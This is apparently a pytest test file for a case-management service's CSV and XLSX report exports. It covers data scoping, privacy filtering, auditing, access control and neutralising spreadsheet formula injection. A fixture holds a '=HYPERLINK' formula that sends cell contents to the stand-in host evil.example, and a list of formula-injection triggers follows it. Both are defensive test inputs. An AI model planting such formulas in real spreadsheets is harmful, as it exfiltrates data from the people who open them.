"""The dashboard's exports (#18): the filtered figures and the filtered list of cases as CSV and
XLSX, checked against SQL of their own; formula cells neutralised; no confidential notes, free
text, names or identity documents; another country's cases absent for a manager; audited;
for those who may see the outcomes only."""

import io
import shutil
import subprocess
from datetime import date, timedelta

import pytest
from sqlalchemy import select, text

from returnsvc.audit.models import AuditEntry
from returnsvc.cases.models import Case, Stage
from returnsvc.cases.services import change_stage
from returnsvc.cases.workspace import workspace
from returnsvc.casework.models import CaseNote, NoteKind
from returnsvc.core.clock import local_today
from returnsvc.core.i18n import in_locale
from returnsvc.extensions import db
from returnsvc.reports import exports
from returnsvc.reports.exports import Section
from returnsvc.skills.models import WorkExperience, WorkPlace
from returnsvc.taxonomy.models import IscoGroup
from tests.helpers import count_statements
from tests.reports.export_helpers import csv_rows, csv_sections, sheet_rows, workbook

EN = {"Accept-Language": "en"}
SECRET = "Confidential: panic attacks since the return"
OPEN_NOTE = "Visited the family; talked about the bakery"
HOSTILE_OFFICE = '=HYPERLINK("http://evil.example/?x="&A1,"Quito")'


def _move(app, case_id, *stages):
    with app.test_request_context():
        case = db.session.get(Case, case_id)
        for stage in stages:
            change_stage(case, Stage(stage), version=case.version, actor=None)
        db.session.commit()


def _note(app, case_id, body, confidential):
    with app.app_context():
        db.session.add(
            CaseNote(
                case_id=case_id, kind=NoteKind.INTERNAL, body=body, is_confidential=confidential
            )
        )
        db.session.commit()


def _make_health_professional(app, returnee_id):
    with app.app_context():
        if db.session.get(IscoGroup, "2221") is None:
            db.session.add(IscoGroup(code="2221", level=4))
            db.session.flush()
        db.session.add(
            WorkExperience(returnee_id=returnee_id, isco_code="2221", place=WorkPlace("abroad"))
        )
        db.session.commit()


@pytest.fixture
def world(app, make):
    quito = make.office("EC", name="Quito")
    hostile = make.office("EC", name=HOSTILE_OFFICE)
    bolivia = make.office("BO", name="Cochabamba")
    born_35_years_ago = local_today().replace(year=local_today().year - 35) - timedelta(days=2)
    cases = {
        "ana": make.case(office_id=quito.id, sex="female", birth_date=born_35_years_ago),
        "eva": make.case(office_id=quito.id, sex="female"),
        "luis": make.case(office_id=quito.id, sex="male"),
        "alex": make.case(office_id=hostile.id, sex="other", given_names="@Alex"),
        "bo": make.case(office_id=bolivia.id, origin_country="BO", nationality="BO",
                        document_country="BO", region_code="BO-C", sex="male"),
    }  # fmt: skip
    make.complete_profile(cases["luis"].returnee_id)
    _move(app, cases["luis"].id, "assessed")
    _make_health_professional(app, cases["eva"].returnee_id)
    _note(app, cases["ana"].id, SECRET, confidential=True)
    _note(app, cases["ana"].id, OPEN_NOTE, confidential=False)
    return {"quito": quito, "hostile": hostile, "bolivia": bolivia, "cases": cases}


def _post(client, path, **args):
    response = client.post(path, query_string=args, headers=EN)
    assert response.status_code == 200, response.get_data(as_text=True)[:400]
    return response


def _expected_cases(app, country="EC"):
    """The case list by SQL of its own: the manager's country's offices, that country of
    return, not anonymised, opened by the end of this year."""
    with app.app_context():
        return db.session.execute(
            text(
                "SELECT c.reference, o.name, r.sex, c.stage,"
                " (c.opened_at AT TIME ZONE o.time_zone)::date AS opened, r.document_number,"
                " r.given_names, r.first_surname"
                " FROM case_file c JOIN office o ON o.id = c.office_id"
                " JOIN returnee r ON r.id = c.returnee_id"
                " WHERE o.country = :country AND r.origin_country = :country"
                " AND r.anonymised_at IS NULL ORDER BY c.id"
            ),
            {"country": country},
        ).all()


# --- the figures --------------------------------------------------------------------------


def _expected_stages(app):
    with app.app_context():
        rows = db.session.execute(
            text(
                "SELECT c.stage, r.sex, count(*) FROM case_file c"
                " JOIN office o ON o.id = c.office_id JOIN returnee r ON r.id = c.returnee_id"
                " WHERE o.country = 'EC' AND r.origin_country = 'EC' GROUP BY c.stage, r.sex"
            )
        ).all()
    return {(stage, sex): n for stage, sex, n in rows}


def _exported_figures(app):
    with app.test_request_context(headers=EN):
        with in_locale("en"):
            return [
                (str(figure.title), figure)
                for figure in workspace().report_figures
                if figure.export is not None
            ]


def test_figures_csv_has_the_filters_then_each_figure(app, client, sign_in, world):
    manager = sign_in("manager", office_id=world["quito"].id, locale="en")
    response = _post(client, "/reports/exports/figures.csv")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    sections = csv_sections(response.data)
    titles = list(sections)
    assert titles[0] == "Filters"
    assert titles[1:] == [title for title, _figure in _exported_figures(app)]
    filters = dict(sections["Filters"][1:])
    assert filters["Country of return"] == "Ecuador"
    assert filters["Office"] == "All"
    assert filters["First day of the period"] == date(local_today().year, 1, 1).isoformat()
    assert filters["Made by"].startswith("Person")
    assert filters["Made on"].startswith(local_today().isoformat())
    # The caseload by stage against SQL of its own, split by sex.
    header, *rows = sections["Cases by stage"]
    assert header == ["Stage", "Women", "Men", "Other or not said", "Total"]
    expected = _expected_stages(app)
    with app.test_request_context(), in_locale("en"):
        labels = {str(stage.label): stage.value for stage in Stage}
    assert len(rows) == len(Stage)
    for label, women, men, other, total in rows:
        stage = labels[label]
        counts = [expected.get((stage, sex), 0) for sex in ("female", "male", "other")]
        assert [int(women), int(men), int(other)] == counts, label
        assert int(total) == sum(counts)
    assert sum(int(row[4]) for row in rows) == 4  # Quito's three and the hostile office's one
    assert manager.id


def test_figures_xlsx_has_a_sheet_per_figure(app, client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="en")
    response = _post(client, "/reports/exports/figures.xlsx", year=local_today().year)
    assert response.mimetype == exports.XLSX_TYPE
    book = workbook(response.data)
    assert book.sheetnames[0] == "Filters"
    assert len(book.sheetnames) == 1 + len(_exported_figures(app))
    assert "Cases by stage" in book.sheetnames
    rows = sheet_rows(book["Cases by stage"])
    assert rows[0] == ("Stage", "Women", "Men", "Other or not said", "Total")
    by_label = {row[0]: row[1:] for row in rows[1:]}
    assert by_label["Registered"] == (2, 0, 1, 3)  # Ana, Eva; Alex (other)
    assert by_label["Assessed"] == (0, 1, 0, 1)  # Luis
    filters = dict(sheet_rows(book["Filters"])[1:])
    assert filters["Country of return"] == "Ecuador"
    assert filters["First day of the period"].date() == date(local_today().year, 1, 1)


# --- the case list ------------------------------------------------------------------------


def test_case_list_csv_is_the_managers_scope(app, client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="en")
    response = _post(client, "/reports/exports/cases.csv")
    header, *rows = csv_rows(response.data)
    assert header == [
        "Reference", "Office", "Country of return", "Sex", "Age when the case was opened",
        "Stage", "Opened on", "Closed on", "Close reason", "Return programme",
        "Health professional",
    ]  # fmt: skip
    expected = _expected_cases(app)
    assert [row[0] for row in rows] == [case.reference for case in expected]
    assert world["cases"]["bo"].reference not in response.get_data(as_text=True)
    by_reference = {row[0]: row for row in rows}
    for case in expected:
        row = by_reference[case.reference]
        assert row[1] == (case.name if not case.name.startswith("=") else "'" + case.name)
        assert row[2] == "Ecuador"
        assert (
            row[3]
            == {"female": "Woman", "male": "Man", "other": "Other / prefers not to say"}[case.sex]
        )
        assert row[5] == {"registered": "Registered", "assessed": "Assessed"}[case.stage]
        assert row[6] == case.opened.isoformat()
        assert row[7] == "" and row[8] == ""
        assert row[9] == "APRE (capitalised unemployment benefit)"
    assert by_reference[world["cases"]["ana"].reference][4] == "30 to 44"
    assert by_reference[world["cases"]["luis"].reference][4] == ""  # no birth date
    assert by_reference[world["cases"]["eva"].reference][10] == "Yes"
    assert by_reference[world["cases"]["ana"].reference][10] == "No"
    # Nothing but those columns: no notes (confidential or not), names or documents.
    body = response.get_data(as_text=True)
    for case in expected:
        assert case.document_number not in body
        assert case.first_surname not in body
    assert SECRET not in body and OPEN_NOTE not in body
    assert "Alex" not in body


def test_case_list_xlsx_has_the_filters_first_and_text_cells(app, client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="en")
    response = _post(client, "/reports/exports/cases.xlsx")
    book = workbook(response.data)
    assert book.sheetnames == ["Filters", "Cases"]
    filters = dict(sheet_rows(book["Filters"])[1:])
    assert filters["Country of return"] == "Ecuador"
    expected = _expected_cases(app)
    assert any(str(key).startswith("The cases of the filters") for key in filters)
    assert 4 in filters.values()  # the rows the list holds
    sheet = book["Cases"]
    rows = sheet_rows(sheet)
    assert [row[0] for row in rows[1:]] == [case.reference for case in expected]
    hostile = next(row for row in rows if row[1] == HOSTILE_OFFICE)
    assert hostile[6] is not None and hostile[6].date() == expected[-1].opened  # a real date
    # The office's name is a text cell, not a formula.
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert SECRET not in values and OPEN_NOTE not in values


def test_a_period_before_the_cases_lists_none(app, client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="en")
    response = _post(client, "/reports/exports/cases.csv", year=local_today().year - 1)
    assert csv_rows(response.data)[1:] == []


def test_an_administrator_lists_every_country(app, client, sign_in, world):
    sign_in("admin", locale="en")
    response = _post(client, "/reports/exports/cases.csv")
    references = [row[0] for row in csv_rows(response.data)[1:]]
    assert world["cases"]["bo"].reference in references
    assert len(references) == 5


def test_labels_in_the_requesters_language(app, client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="es")
    response = client.post("/reports/exports/cases.csv")
    with app.test_request_context(), in_locale("es"):
        registered, ecuador = str(Stage.REGISTERED.label), "Ecuador"
    with app.test_request_context(), in_locale("en"):
        assert str(Stage.REGISTERED.label) != registered  # the label has a translation
    rows = csv_rows(response.data)[1:]
    ana = next(row for row in rows if row[0] == world["cases"]["ana"].reference)
    assert ana[5] == registered and ana[2] == ecuador


# --- injection ----------------------------------------------------------------------------

TRIGGERS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tcmd", "\rcmd", "'quoted"]


def test_csv_cells_that_would_run_are_quoted(app, client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="en")
    response = _post(client, "/reports/exports/cases.csv")
    rows = csv_rows(response.data)
    assert ["'" + HOSTILE_OFFICE] == [row[1] for row in rows if "HYPERLINK" in row[1]]
    section = Section("=title", ("=header",), [(*TRIGGERS, -5, "plain")])
    out = io.StringIO()
    exports.write_csv([section], out)
    title, header, row = list(csv_rows(out.getvalue().encode("utf-8")))[:3]
    assert title == ["'=title"] and header == ["'=header"]
    assert row == ["'" + value for value in TRIGGERS] + ["-5", "plain"]  # numbers stay numbers


def test_xlsx_cells_that_would_run_are_text(app, tmp_path):
    section = Section("Sheet", ("=header",), [(*TRIGGERS, -5, date(2025, 1, 2))])
    path = tmp_path / "cells.xlsx"
    exports.write_xlsx([section], path)
    sheet = workbook(path.read_bytes())["Sheet"]
    header, texts = sheet["A1"], list(sheet.iter_rows(min_row=2))[0]
    assert (header.value, header.data_type) == ("=header", "s")
    cells = texts[: len(TRIGGERS)]
    assert [cell.data_type for cell in cells] == ["s"] * len(TRIGGERS)
    # Kept as they are (a reader sees the text), "\r" read back as a line break by XML.
    assert [cell.value for cell in cells] == [t.replace("\r", "\n") for t in TRIGGERS]
    number, day = texts[len(TRIGGERS)], texts[len(TRIGGERS) + 1]
    assert (number.value, number.data_type) == (-5, "n")
    assert day.is_date and day.value.date() == date(2025, 1, 2)


# --- who, and the record of it ------------------------------------------------------------


def test_exports_are_audited_with_the_filters_and_rows(app, client, sign_in, world):
    manager = sign_in("manager", office_id=world["quito"].id, locale="en")
    year = local_today().year
    _post(client, "/reports/exports/cases.xlsx", year=year, sex="female")
    _post(client, "/reports/exports/figures.csv", year=year)
    with app.app_context():
        entries = db.session.scalars(
            select(AuditEntry)
            .where(AuditEntry.action == "outcomes.exported")
            .order_by(AuditEntry.id)
        ).all()
        recorded = [(entry.actor_id, entry.changes) for entry in entries]
    cases, figures = recorded
    assert cases == (
        manager.id,
        {
            "kind": "cases",
            "format": "xlsx",
            "filters": {"country": "EC", "sex": "female", "year": year},
            "rows": 2,
        },
    )
    assert figures[0] == manager.id
    assert figures[1]["kind"] == "figures" and figures[1]["rows"] >= len(Stage)
    assert figures[1]["filters"] == {"country": "EC", "year": year}


@pytest.mark.parametrize("role, status", [("counsellor", 403), ("returnee", 403)])
def test_only_those_who_see_outcomes_export(app, client, sign_in, world, role, status):
    sign_in(role, office_id=world["quito"].id)
    for path in ("/reports/exports/cases.csv", "/reports/exports/figures.xlsx"):
        assert client.post(path).status_code == status


def test_anonymous_is_sent_to_sign_in(client, world):
    assert client.post("/reports/exports/cases.csv").status_code == 302


def test_an_unknown_export_is_not_found(client, sign_in, world):
    sign_in("manager", office_id=world["quito"].id)
    assert client.post("/reports/exports/cases.pdf").status_code == 404
    assert client.post("/reports/exports/people.csv").status_code == 404
    assert client.get("/reports/exports/cases.csv").status_code == 405


def test_the_case_list_reads_a_fixed_number_of_statements(app, client, make, sign_in, world):
    sign_in("manager", office_id=world["quito"].id, locale="en")
    with count_statements(app) as few:
        _post(client, "/reports/exports/cases.csv")
    for _ in range(6):
        make.case(office_id=world["quito"].id)
    with count_statements(app) as more:
        response = _post(client, "/reports/exports/cases.csv")
    assert len(csv_rows(response.data)) == 1 + 4 + 6
    assert len(more) == len(few), more


def test_the_rows_come_in_batches(app, ctx, make, world):
    from returnsvc.auth.models import User
    from returnsvc.reports.filters import parse_filters, scope_of

    admin = db.session.get(User, make.user("admin").id)
    scope = scope_of(parse_filters({}, admin), admin)
    seen = []
    rows = list(exports.case_rows(scope, batch=2, progress=seen.append))
    assert len(rows) == 5 and seen == [2, 4, 5]
    assert len({row[0] for row in rows}) == 5


def test_the_xlsx_opens_in_libreoffice(app, client, sign_in, world, tmp_path):
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    sign_in("manager", office_id=world["quito"].id, locale="en")
    for kind in ("figures", "cases"):
        source = tmp_path / f"{kind}.xlsx"
        source.write_bytes(_post(client, f"/reports/exports/{kind}.xlsx").data)
        done = subprocess.run(
            [office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
             "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
            capture_output=True, timeout=180, check=False,
        )  # fmt: skip
        pdf = tmp_path / f"{kind}.pdf"
        assert done.returncode == 0 and pdf.is_file(), done.stderr
        assert pdf.read_bytes().startswith(b"%PDF-")
        if shutil.which("pdftotext"):
            words = subprocess.run(
                ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
            ).stdout
            assert ("Registered" in words) if kind == "figures" else ("HYPERLINK" in words)
